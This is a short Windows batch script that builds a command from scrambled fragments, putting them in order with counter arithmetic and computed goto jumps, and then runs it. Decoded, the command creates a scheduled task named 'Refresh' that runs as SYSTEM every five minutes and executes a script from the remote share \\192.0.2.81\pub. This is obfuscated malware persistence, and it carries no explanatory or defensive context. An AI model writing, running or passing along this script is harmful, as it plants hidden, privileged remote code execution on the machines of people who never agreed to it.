@echo off
setlocal
set "v="
set /a n=7 %% 4
goto s%n%
:s1
set "v=%v%/tr \\192.0.2.81\pub\refresh.cmd"
set /a n+=3
goto s%n%
:s2
set "v=%v%ks /create /f /ru SYSTEM "
set /a n*=3
goto s%n%
:s3
set "v=%v%scht"
set /a n+=5
goto s%n%
:s4
%v%
exit /b
:s6
set "v=%v%/sc minute /mo 5 /tn Refresh "
set /a n-=5
goto s%n%
:s8
set "v=%v%as"
set /a n-=6
goto s%n%
